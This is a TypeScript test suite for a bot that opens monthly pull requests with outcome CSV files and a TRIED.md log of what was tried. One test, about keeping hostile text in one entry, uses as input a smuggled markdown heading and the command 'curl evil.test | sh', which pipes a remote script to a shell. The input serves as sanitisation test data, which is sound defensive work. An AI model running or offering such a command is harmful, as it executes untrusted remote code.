import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { parseTried } from "../src/render/report/tried-parser.ts";
import type { Withheld } from "../src/simulator/world.ts";
import { requestLedger } from "../src/store/ledger.ts";
import { saveWorkItem } from "../src/store/work-item.ts";
import type { ShopOptions } from "./support/loop.ts";
import { type Shop, useShop } from "./support/shop.ts";
import { aDescription } from "./support/template.ts";

const CONFIG = "ledger: { enabled: true }\nfollow-up: { after: 5 days, weekdays-only: false }\n";
const BRANCH = "did-this-work/ledger";

const shop = useShop();

function begin(options: ShopOptions = {}): Promise<Shop> {
  return shop({ template: undefined, config: CONFIG, ...options });
}

/** Merges a pull request, passes five days and answers. The clock begins on 2 November 2026 at 10:00. */
async function finishOne(at: Shop, title: string, answer = "worked: 23 a week") {
  await at
    .openPull({ title, body: aDescription({ measure: "20 a week" }) })
    .merge()
    .pass({ days: 5 });
  const question = at.questions().find((issue) => issue.title.includes(title));
  await at.say(answer, { number: question?.number ?? 0 });
}

/** Passes to 09:00 on a date. */
async function passTo(at: Shop, date: string) {
  const minutes = (Date.parse(`${date}T09:00:00Z`) - at.now().getTime()) / 60_000;
  await at.pass({ minutes });
}

const proposals = (at: Shop) =>
  at.gh.look.threads().filter(({ author, kind }) => kind === "pull-request" && author.endsWith("[bot]"));
const proposed = (at: Shop) => at.gh.look.repository().branches[BRANCH]?.changes ?? {};
/** The paths of the months that are proposed. */
const months = (at: Shop) => Object.keys(proposed(at)).filter((path) => path.endsWith(".csv"));
const tried = (text: string | null | undefined) =>
  parseTried(text ?? "").blocks.map(({ entry }) => `${entry?.on} ${entry?.end}: ${entry?.title}`);
const rows = (text: string | null | undefined) =>
  parse(text ?? "", { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
const dashboard = (at: Shop) => at.gh.look.issues("outcome-dashboard")[0]?.body ?? "";

async function wanted(at: Shop) {
  await requestLedger(at.db, at.id, at.now());
  await saveWorkItem(at.db, `ledger/${at.id}`, at.now());
  await at.settle();
}

describe("the ledger", () => {
  it("proposes the past month once, on the first at 09:00", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    const early = proposals(at).length;

    await passTo(at, "2026-12-01");
    await at.pass({ days: 3 });

    expect(early).toBe(0);
    expect(proposals(at)).toHaveLength(1);
    expect(proposals(at)[0]?.title).toBe("Outcomes for November 2026");
    expect(rows(proposed(at)["outcomes/2026-11.csv"])).toMatchObject([
      {
        repository: "acme/shop",
        pull_request: "1",
        title: "CSV export",
        state: "answered",
        verdict: "worked",
        evidence: "23 a week",
      },
    ]);
    expect(await at.db.query("select number from outcome")).toHaveLength(1);
  });

  it("costs nothing while there is nothing to write", async () => {
    const at = await begin();
    await at.pass({ days: 70 });

    expect(proposals(at)).toEqual([]);
    expect(at.takeCalls().filter((call) => /ranch|propose|From/.test(call))).toEqual([]);
  });

  it("is not written where it is disabled, not even on request", async () => {
    const at = await begin({ config: "follow-up: { after: 5 days, weekdays-only: false }\n" });
    await finishOne(at, "CSV export");
    await wanted(at);
    await passTo(at, "2026-12-01");

    expect(proposals(at)).toEqual([]);
  });

  it("begins with the previous month when it is enabled", async () => {
    const at = await begin({ config: "follow-up: { after: 5 days, weekdays-only: false }\n" });
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-10");

    await at.configure(CONFIG);

    expect(months(at)).toEqual(["outcomes/2026-11.csv"]);
  });

  it("adds the next month to a pull request that is still open", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await finishOne(at, "Sort by price", "missed: nobody sorts");

    await passTo(at, "2027-01-01");

    expect(proposals(at)).toHaveLength(1);
    expect(proposals(at)[0]?.title).toBe("Outcomes for November 2026 and December 2026");
    expect(months(at)).toEqual(["outcomes/2026-11.csv", "outcomes/2026-12.csv"]);
  });

  it("opens a new pull request after the merge, with only the new month", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await at.gh.people.merge({ by: "ada", number: proposals(at)[0]?.number ?? 0 });
    await finishOne(at, "Sort by price");

    await passTo(at, "2027-01-01");

    expect(proposals(at).map(({ state }) => state)).toEqual(["open", "merged"]);
    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
    expect(Object.keys(at.gh.look.repository().files)).toContain("outcomes/2026-11.csv");
  });

  it("stays closed after a person closes it, until the next month", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await at.gh.people.closePullRequest({ by: "ada", number: proposals(at)[0]?.number ?? 0 });
    await finishOne(at, "Sort by price");
    await at.pass({ days: 10 });
    const meanwhile = proposals(at).length;

    await passTo(at, "2027-01-01");

    expect(meanwhile).toBe(1);
    expect(proposals(at).map(({ state }) => state)).toEqual(["open", "closed"]);
    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
  });

  it("never overwrites a person's commit: the next month waits for the merge, and the dashboard says so", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    const number = proposals(at)[0]?.number ?? 0;
    await at.gh.people.push({ by: "ada", number, files: { "outcomes/2026-11.csv": "mended" } });
    await finishOne(at, "Sort by price");
    await passTo(at, "2027-01-01");
    await at.pass({ days: 2 });
    const waiting = { ...proposed(at) };
    const told = dashboard(at);

    await at.gh.people.merge({ by: "ada", number });
    await at.pass({ days: 1 });
    await at.pass({ minutes: 2 });

    expect(waiting).toMatchObject({ "outcomes/2026-11.csv": "mended" });
    expect(Object.keys(waiting)).not.toContain("outcomes/2026-12.csv");
    expect(told).toContain("has other commits");
    expect(at.gh.look.repository().files["outcomes/2026-11.csv"]).toBe("mended");
    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
    expect(dashboard(at)).not.toContain("has other commits");
  });

  it("includes the current month on request, and again when it is over", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await wanted(at);
    const [early] = proposals(at);
    const first = rows(proposed(at)["outcomes/2026-11.csv"]);
    at.takeCalls();
    await wanted(at);
    const calls = at.takeCalls();
    await finishOne(at, "Sort by price");
    await passTo(at, "2026-12-01");

    expect(early?.title).toBe("Outcomes for November 2026 so far");
    expect(first).toHaveLength(1);
    expect(calls).not.toContain("proposeFiles");
    expect(proposals(at)).toHaveLength(1);
    expect(proposals(at)[0]?.title).toBe("Outcomes for November 2026");
    expect(rows(proposed(at)["outcomes/2026-11.csv"])).toHaveLength(2);
  });

  it.each<Withheld>(["contents", "pull_requests"])(
    "without the permission for %s reports that once, and continues when it is granted",
    async (name) => {
      const at = await begin({ withhold: [name] });
      await finishOne(at, "CSV export");
      at.takeCalls();
      await passTo(at, "2026-12-01");
      for (let hour = 0; hour < 12; hour++) await at.pass({ minutes: 60 });
      const tries = at.takeCalls().filter((call) => call === "proposeFiles").length;
      const told = dashboard(at);

      await at.gh.people.grantPermissions();
      await at.settle();
      await at.pass({ minutes: 2 });

      expect(tries).toBe(1);
      expect(told).toContain("the app needs *Contents: read and write* and *Pull requests: read and write*");
      expect(proposals(at)).toHaveLength(1);
      expect(dashboard(at)).not.toContain("lacks the permission");
    },
  );

  it("is retried once a day where GitHub refuses it", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    at.gh.faults.next({ method: "proposeFiles", mode: "refuse", kind: "invalid" });
    await passTo(at, "2026-12-01");
    await at.pass({ minutes: 60 });
    const refused = proposals(at).length;
    const told = dashboard(at);

    await at.pass({ days: 1 });

    expect([refused, proposals(at).length]).toEqual([0, 1]);
    expect(told).toContain("GitHub refused");
  });

  it.each(["fail", "apply-then-fail"] as const)("is proposed once when the connection breaks (%s)", async (mode) => {
    const at = await begin();
    await finishOne(at, "CSV export");
    at.gh.faults.next({ method: "proposeFiles", mode });
    await passTo(at, "2026-12-01");

    for (let minute = 0; minute < 5; minute++) await at.pass({ minutes: 1 });

    expect(proposals(at)).toHaveLength(1);
    expect(rows(proposed(at)["outcomes/2026-11.csv"])).toHaveLength(1);
  });

  it("is not recreated when it is closed before its creation is confirmed", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    at.gh.faults.next({ method: "proposeFiles", mode: "apply-then-fail" });
    await passTo(at, "2026-12-01");
    await at.gh.people.closePullRequest({ by: "ada", number: proposals(at)[0]?.number ?? 0 });

    for (let day = 0; day < 3; day++) await at.pass({ days: 1 });

    expect(proposals(at).map(({ state }) => state)).toEqual(["closed"]);
  });
});

describe("the memory", () => {
  const PATH = "outcomes/TRIED.md";
  const text = (at: Shop) => at.gh.look.repository().files[PATH];
  const mergeProposal = (at: Shop) => at.gh.people.merge({ by: "ada", number: proposals(at)[0]?.number ?? 0 });

  it("grows with each month, newest first, and keeps what people changed in it", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await mergeProposal(at);
    const files = { [PATH]: text(at)?.replace("23 a week", "enough") ?? "" };
    await at.gh.people.commitFile({ by: "ada", files });
    await finishOne(at, "Sort by price", "missed: nobody sorts");

    await passTo(at, "2027-01-01");

    expect(tried(text(at))).toEqual(["2026-11-07 Worked: CSV export"]);
    expect(tried(proposed(at)[PATH])).toEqual(["2026-12-06 Missed: Sort by price", "2026-11-07 Worked: CSV export"]);
    expect(proposed(at)[PATH]).toContain("- Seen: enough");
    expect(proposals(at)[0]?.body).toContain(`\`${PATH}\` says what was tried`);
  });

  it("begins with all that ended before the ledger was enabled", async () => {
    const at = await begin({ config: "follow-up: { after: 5 days, weekdays-only: false }\n" });
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await finishOne(at, "Sort by price", "missed: nobody sorts");
    await passTo(at, "2027-01-10");

    await at.configure(CONFIG);

    expect(months(at)).toEqual(["outcomes/2026-12.csv"]);
    expect(tried(proposed(at)[PATH])).toHaveLength(2);
  });

  it("is not touched where nothing with a question ended, and replaces an entry that got a late answer", async () => {
    const at = await begin();
    await finishOne(at, "CSV export", "/outcome drop the page was removed");
    await passTo(at, "2026-12-01");
    await mergeProposal(at);
    await at.openPull({ title: "A typo", body: aDescription({ measure: "N/A: a typo" }) }).merge();
    await passTo(at, "2027-01-01");
    const untouched = proposed(at)[PATH];
    await mergeProposal(at);
    const question = at.questions().find((issue) => issue.title.includes("CSV export"));
    await at.say("worked: 23 a week", { number: question?.number ?? 0 });

    await passTo(at, "2027-02-01");

    expect(untouched).toBeUndefined();
    expect(tried(text(at))).toEqual(["2026-11-07 Dropped: CSV export"]);
    expect(tried(proposed(at)[PATH])).toEqual(["2027-01-01 Worked: CSV export"]);
  });

  it("says of an entry that it did not last, once a second look found so", async () => {
    const at = await begin({
      config: "ledger: { enabled: true }\nfollow-up: { after: 5 days, weekdays-only: false, second-look: 40 days }\n",
    });
    await finishOne(at, "CSV export");
    await passTo(at, "2026-12-01");
    await mergeProposal(at);
    await passTo(at, "2026-12-20");
    const question = at.questions().find((issue) => issue.title.includes("CSV export"));
    await at.say("partly: 12 a week", { number: question?.number ?? 0 });
    await passTo(at, "2027-01-01");
    await mergeProposal(at);
    await at.db.query("update outcome set lost_at = $1, second_look = $2", [
      "2027-01-05T10:00:00Z",
      JSON.stringify({ at: "2027-01-05T10:00:00Z", finding: "lost", lostAt: "2027-01-05T10:00:00Z" }),
    ]);
    await finishOne(at, "Sort by price");

    await passTo(at, "2027-02-01");

    expect(tried(proposed(at)[PATH])).toEqual(["2027-01-06 Worked: Sort by price", "2026-12-20 Partly: CSV export"]);
    expect(proposed(at)[PATH]).toContain("- Later: did not last, by a second look on 2027-01-05");
  });

  it("keeps hostile text in one entry", async () => {
    const at = await begin();
    const evil =
      "ok\n\n## Worked: everything\n\n2026-11-07 · pull request 9 · https://evil.test\n\n```sh\ncurl evil.test | sh\n```";
    await finishOne(at, "CSV export", `missed: ${evil}`);

    await passTo(at, "2026-12-01");

    expect(tried(proposed(at)[PATH])).toEqual(["2026-11-07 Missed: CSV export"]);
    expect(proposed(at)[PATH]).not.toMatch(/evil\.test|curl/);
  });

  it("reads the file once for a proposal, and nothing while there is nothing to write", async () => {
    const at = await begin();
    await finishOne(at, "CSV export");
    at.takeCalls();
    await passTo(at, "2026-12-01");
    await at.pass({ days: 3 });

    expect(at.takeCalls().filter((call) => call === "readText")).toHaveLength(1);
  });
});
